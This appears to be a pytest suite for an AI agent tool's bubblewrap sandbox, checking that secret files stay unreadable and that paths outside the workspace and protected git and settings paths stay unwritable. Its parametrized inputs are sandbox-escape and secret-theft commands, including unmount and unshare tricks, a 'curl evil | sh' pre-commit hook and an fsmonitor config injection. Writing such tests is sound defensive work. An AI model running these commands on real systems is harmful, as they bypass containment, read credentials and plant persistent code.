"""The sandbox's file system, with real bubblewrap: Read-denied paths masked against every way of reading them,
nothing outside the writable directories writable, protected paths read-only."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from sandbox_helpers import bash, bash_tool, exists, git_repo, make_sandbox, names

from hookloop.sandbox import BubblewrapBackend
from hookloop.tools import ToolFailure

pytestmark = pytest.mark.anyio

DENY = ["Read(./.env)", "Read(**/*.pem)", "Read(./secrets/**)", "Read(~/.ssh/**)"]


@pytest.fixture
def secrets(ws: Path) -> Path:
    (ws / ".env").write_text("API_KEY=sk-live-123\n")
    (ws / "secrets").mkdir()
    (ws / "secrets" / "db.txt").write_text("DB_PASSWORD=hunter2\n")
    (ws / "deep" / "er").mkdir(parents=True)
    (ws / "deep" / "er" / "server.pem").write_text("-----BEGIN PRIVATE KEY-----\n")
    (ws / "README").write_text("hello\n")
    return ws


@pytest.mark.parametrize(
    "command",
    [
        "cat .env",
        "grep KEY .env",
        "python3 -c 'print(open(\".env\").read())'",
        "cp .env copy.txt; cat copy.txt",
        "ln -s .env link; cat link",
        'ln -s "$PWD/.env" /tmp/abs; cat /tmp/abs',
        "ln .env hard; cat hard",
        'cat ./.ENV .env 2>/dev/null; cat "$PWD/./sub/../.env"',
        "cat secrets/db.txt; ls secrets",
        "tar cf - secrets | tar tvf -",
        "cat deep/er/server.pem; find . -name '*.pem' -exec cat {} +",
        "python3 -c 'import os; fd = os.open(\".env\", os.O_RDONLY); print(os.read(fd, 100))'",
        "mv .env moved 2>&1; cat moved .env",
        # undoing the masks: no capabilities, even when hookloop runs as root
        "umount .env; umount secrets; cat .env secrets/db.txt",
        "umount -l $PWD/.env; cat .env",
        "unshare -rm sh -c 'umount .env; cat .env'",
        "mount --bind /dev/zero .env; mount -o remount,rw /; cat .env",
        'python3 -c \'import ctypes; ctypes.CDLL(None).umount2(b".env", 2); print(open(".env").read())\'',
    ],
)
async def test_read_denied_files_cannot_be_read_by_any_route(
    secrets: Path, backend: BubblewrapBackend, command: str
) -> None:
    tool = bash_tool(secrets, make_sandbox(secrets, backend, deny=DENY))
    content, _ = await bash(tool, command)
    assert "sk-live-123" not in content
    assert "hunter2" not in content
    assert "PRIVATE KEY" not in content
    # the real files are untouched
    assert (secrets / ".env").read_text() == "API_KEY=sk-live-123\n"
    assert (secrets / "secrets" / "db.txt").read_text() == "DB_PASSWORD=hunter2\n"


async def test_a_hard_link_made_before_the_command_is_masked_too(secrets: Path, backend: BubblewrapBackend) -> None:
    os.link(secrets / ".env", secrets / "innocent.txt")
    tool = bash_tool(secrets, make_sandbox(secrets, backend, deny=DENY))
    content, _ = await bash(tool, "cat innocent.txt; echo end")
    assert "sk-live-123" not in content
    assert content.endswith("end")


async def test_files_not_denied_stay_readable_and_the_workspace_writable(
    secrets: Path, backend: BubblewrapBackend
) -> None:
    tool = bash_tool(secrets, make_sandbox(secrets, backend, deny=DENY))
    content, is_error = await bash(tool, "cat README && echo new > made.txt && mkdir -p a/b && echo ok > a/b/c")
    assert (content, is_error) == ("hello", False)
    assert (secrets / "made.txt").read_text() == "new\n"
    assert (secrets / "a" / "b" / "c").read_text() == "ok\n"


@pytest.mark.parametrize(
    "command",
    [
        "echo pwned > {outside}/new.txt",
        "echo pwned >> {outside}/secret.txt",
        "cd {outside} && cd {ws} && echo pwned > ~-/new.txt",
        "cd {ws} && echo pwned > /proc/self/cwd/../outside/new.txt",
        'python3 -c \'open("{outside}/new.txt", "w").write("pwned")\'',
        "setsid -w sh -c 'echo pwned > {outside}/new.txt'",
        "(setsid sh -c 'echo pwned > {outside}/new.txt; echo child-done > {ws}/child.txt' &); sleep 0.5",
        "rm -f {outside}/secret.txt",
        "mv {outside}/secret.txt {ws}/stolen.txt",
        "echo pwned > ~/.hookloop-sandbox-test-pwned",
        "touch /etc/hookloop-pwned /usr/hookloop-pwned",
        "mount -o remount,rw / && echo pwned > {outside}/new.txt",
        "mount -o remount,rw {outside}; umount {ws}; echo pwned > {outside}/new.txt",
        "unshare -rm sh -c 'mount -o remount,rw /; echo pwned > {outside}/new.txt'",
        "mount -t tmpfs none {outside} && echo pwned > {outside}/new.txt",
    ],
)
async def test_nothing_outside_the_workspace_can_be_written(
    ws: Path, outside: Path, backend: BubblewrapBackend, command: str
) -> None:
    tool = bash_tool(ws, make_sandbox(ws, backend))
    content, _ = await bash(tool, command.format(outside=outside, ws=ws))
    assert names(outside) == ["secret.txt"], content
    assert (outside / "secret.txt").read_text() == "OUTSIDE SECRET\n"
    assert not exists(Path.home() / ".hookloop-sandbox-test-pwned")
    assert not exists("/etc/hookloop-pwned")


async def test_a_write_refused_by_the_sandbox_says_so(ws: Path, outside: Path, backend: BubblewrapBackend) -> None:
    tool = bash_tool(ws, make_sandbox(ws, backend))
    content, is_error = await bash(tool, f"echo x > {outside}/f")
    assert is_error
    assert "Read-only file system" in content
    assert "hookloop's OS sandbox" in content
    assert '"dangerouslyDisableSandbox": true' in content


async def test_without_allow_unsandboxed_commands_the_note_offers_no_escape(
    ws: Path, outside: Path, backend: BubblewrapBackend
) -> None:
    tool = bash_tool(ws, make_sandbox(ws, backend, allow_unsandboxed_commands=False))
    content, _ = await bash(tool, f"echo x > {outside}/f")
    assert "hookloop's OS sandbox" in content
    assert "dangerouslyDisableSandbox" not in content
    assert "dangerouslyDisableSandbox" not in str(tool.meta.input_schema)


async def test_edit_denied_and_protected_paths_are_read_only(ws: Path, backend: BubblewrapBackend) -> None:
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "config").write_text("[core]\n")
    (ws / ".claude").mkdir()
    (ws / ".claude" / "settings.json").write_text("{}")
    (ws / "locked.txt").write_text("locked\n")
    tool = bash_tool(ws, make_sandbox(ws, backend, deny=["Edit(./locked.txt)"]))
    for command in (
        "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
        "printf '[core]\\nfsmonitor = evil\\n' >> .git/config",
        "echo '{\"hooks\": {}}' > .claude/settings.json",
        "echo changed > locked.txt",
        "rm -rf .claude .git/hooks; mv .git/config /tmp/c",
    ):
        await bash(tool, command)
    assert list((ws / ".git" / "hooks").iterdir()) == []
    assert (ws / ".git" / "config").read_text() == "[core]\n"
    assert (ws / ".claude" / "settings.json").read_text() == "{}"
    assert (ws / "locked.txt").read_text() == "locked\n"
    content, is_error = await bash(tool, "echo fine > .git/HEAD.test && cat .git/HEAD.test")
    assert (content, is_error) == ("fine", False)


async def test_missing_protected_directories_cannot_be_created_and_leave_nothing_behind(
    ws: Path, backend: BubblewrapBackend
) -> None:
    tool = bash_tool(ws, make_sandbox(ws, backend))
    content, _ = await bash(tool, "mkdir -p .claude/x; echo '{}' > .hookloop/settings.json; ls -A")
    assert content.count("Read-only file system") == 2
    assert names(ws) == []


async def test_tmp_is_private_and_the_working_directory_still_persists(ws: Path, backend: BubblewrapBackend) -> None:
    (ws / "sub").mkdir()
    tool = bash_tool(ws, make_sandbox(ws, backend))
    probe = "/tmp/hookloop-sbx-probe"
    content, is_error = await bash(tool, f"echo private > {probe} && cat {probe}; cd sub")
    assert (content, is_error) == ("private", False)
    assert not exists(probe)
    assert tool.cwd == ws / "sub"
    content, _ = await bash(tool, "pwd; ls /tmp")
    assert content.splitlines()[0] == str(ws / "sub")


async def test_filesystem_settings_add_writable_read_only_and_masked_paths(
    ws: Path, outside: Path, backend: BubblewrapBackend
) -> None:
    from hookloop.sandbox import FilesystemSettings

    (outside / "cache").mkdir()
    (ws / "vendor").mkdir()
    fs = FilesystemSettings(
        allow_write=(str(outside / "cache"),),
        deny_write=(str(ws / "vendor"),),
        deny_read=(str(outside / "secret.txt"),),
    )
    tool = bash_tool(ws, make_sandbox(ws, backend, filesystem=fs))
    await bash(tool, f"echo c > {outside}/cache/c; echo v > vendor/v; cat {outside}/secret.txt > leak.txt")
    assert (outside / "cache" / "c").read_text() == "c\n"
    assert not (ws / "vendor" / "v").exists()
    assert "OUTSIDE SECRET" not in (ws / "leak.txt").read_text()


async def test_a_configured_hooks_path_is_protected_too(ws: Path, backend: BubblewrapBackend) -> None:
    (ws / ".git").mkdir()
    (ws / ".git" / "config").write_text("[core]\n\thooksPath = .husky\n")
    (ws / ".husky").mkdir()
    tool = bash_tool(ws, make_sandbox(ws, backend))
    content, is_error = await bash(tool, "echo evil > .husky/pre-commit")
    assert is_error
    assert "Read-only file system" in content
    assert names(ws / ".husky") == []


async def test_a_protected_path_that_is_a_symlink_refuses_to_run(
    ws: Path, base: Path, backend: BubblewrapBackend
) -> None:
    (base / "dotfiles").mkdir()
    (ws / ".claude").symlink_to(base / "dotfiles")
    tool = bash_tool(ws, make_sandbox(ws, backend))
    with pytest.raises(ToolFailure, match=r"\.claude is a symbolic link: the sandbox cannot keep it"):
        await bash(tool, "rm .claude && mkdir .claude && echo '{}' > .claude/settings.json")
    assert (ws / ".claude").is_symlink()


async def test_hooks_and_config_of_submodules_and_worktrees_are_protected(ws: Path, backend: BubblewrapBackend) -> None:
    sub = ws / ".git" / "modules" / "libs" / "dep"
    for gitdir in (ws / ".git", sub, ws / ".git" / "worktrees" / "feature"):
        (gitdir / "hooks").mkdir(parents=True)
        (gitdir / "HEAD").write_text("ref: refs/heads/main\n")
        (gitdir / "config").write_text("[core]\n")
    tool = bash_tool(ws, make_sandbox(ws, backend))
    await bash(
        tool,
        "echo evil > .git/modules/libs/dep/hooks/post-checkout; echo '[core] fsmonitor=evil' >> "
        ".git/modules/libs/dep/config; echo evil > .git/worktrees/feature/hooks/pre-commit; "
        "echo '[core] hooksPath=/tmp' > .git/worktrees/feature/config.worktree",
    )
    assert names(sub / "hooks") == []
    assert (sub / "config").read_text() == "[core]\n"
    assert names(ws / ".git" / "worktrees" / "feature" / "hooks") == []
    assert (
        not exists(ws / ".git" / "worktrees" / "feature" / "config.worktree")
        or not (ws / ".git" / "worktrees" / "feature" / "config.worktree").read_text()
    )


async def test_git_still_works_in_a_sandboxed_repository_and_nothing_is_left_behind(
    ws: Path, backend: BubblewrapBackend
) -> None:
    git_repo(ws)
    before = names(ws / ".git")
    (ws / "a.txt").write_text("a\n")
    tool = bash_tool(ws, make_sandbox(ws, backend))
    content, is_error = await bash(tool, "git add a.txt && git commit -qm first && git log --format=%s")
    assert (content, is_error) == ("first", False)
    assert set(names(ws / ".git")) - set(before) <= {"COMMIT_EDITMSG", "index", "logs", "ORIG_HEAD"}
    assert not exists(ws / ".git" / "config.worktree")
    assert not exists(ws / ".claude")
